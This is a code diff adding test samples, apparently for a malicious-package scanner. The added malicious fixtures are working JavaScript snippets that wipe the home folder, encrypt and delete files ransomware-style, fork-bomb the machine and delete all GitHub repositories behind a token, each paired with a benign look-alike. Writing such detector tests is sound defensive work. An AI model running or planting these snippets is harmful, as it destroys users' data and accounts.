@@ -4,6 +4,41 @@ import { at, HOOK_LINE, hide, hooked, imported, installed, quiet, wheel } from '
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a home folder, entry by entry, by a function',
+      files: imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.tidy = () => {\n  for (const name of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), name), { recursive: true });\n};\n`,
+      ),
+      expected: [at('wipe', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'files that only somebody else can open',
+      files: imported(
+        `const fs = require('fs'), crypto = require('crypto');\nconst KEY = '-----BEGIN PUBLIC KEY-----\\nMFww\\n-----END PUBLIC KEY-----';\nexports.seal = (path) => {\n  const key = crypto.randomBytes(32);\n  const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16));\n  fs.writeFileSync(path + '.x', Buffer.concat([crypto.publicEncrypt(KEY, key), c.update(fs.readFileSync(path))]));\n  fs.unlinkSync(path);\n};\n`,
+      ),
+      expected: [at('overwrite', 'high', 'index.js', 7)],
+    },
+    {
+      name: 'processes without end',
+      files: imported(
+        `const { fork } = require('child_process');\nexports.load = () => {\n  for (;;) fork(__filename);\n};\n`,
+      ),
+      expected: [at('hang', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'the repositories of an account',
+      files: imported(
+        `const { Octokit } = require('@octokit/rest');\n(async () => {\n  const kit = new Octokit({ auth: process.env.GITHUB_TOKEN });\n  const { data } = await kit.rest.repos.listForAuthenticatedUser();\n  for (const repo of data) await kit.rest.repos.delete({ owner: repo.owner.login, repo: repo.name });\n})();\n`,
+      ),
+      expected: [at('repositories', 'high', 'index.js', 5)],
+    },
+    {
+      name: 'a note on the desktop',
+      files: imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), 'Desktop', 'READ.txt'), 'Stop it.');\n`,
+      ),
+      expected: [at('note', 'high', 'index.js', 2)],
+    },
+    {
       name: 'Python: all files of the home folder, one by one',
       files: wheel(
         'import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home()):\n        for name in names:\n            os.remove(os.path.join(at, name))\n',
@@ -67,6 +102,30 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'the cache of the package, entry by entry',
+      imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nconst own = path.join(os.homedir(), '.cache', 'own');\nexports.tidy = () => {\n  for (const name of fs.readdirSync(own)) fs.rmSync(path.join(own, name), { recursive: true });\n};\n`,
+      ),
+    ),
+    quiet(
+      'a sealed copy of a file',
+      imported(
+        `const fs = require('fs'), crypto = require('crypto');\nexports.seal = (path, pub) => {\n  const key = crypto.randomBytes(32);\n  const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16));\n  fs.writeFileSync(path + '.x', Buffer.concat([crypto.publicEncrypt(pub, key), c.update(fs.readFileSync(path))]));\n};\n`,
+      ),
+    ),
+    quiet(
+      "a process for each processor, and one of somebody's repositories",
+      imported(
+        `const { fork } = require('child_process'), os = require('os');\nexports.load = () => {\n  for (let i = 0; i < os.cpus().length; i++) fork(__filename);\n};\nexports.drop = (kit, owner, repo) => kit.rest.repos.delete({ owner, repo });\n`,
+      ),
+    ),
+    quiet(
+      'a report on the desktop, when asked for',
+      imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.save = (text) => fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'report.txt'), text);\n`,
+      ),
+    ),
     quiet(
       'Python: old files of its own cache, one by one',
       wheel(
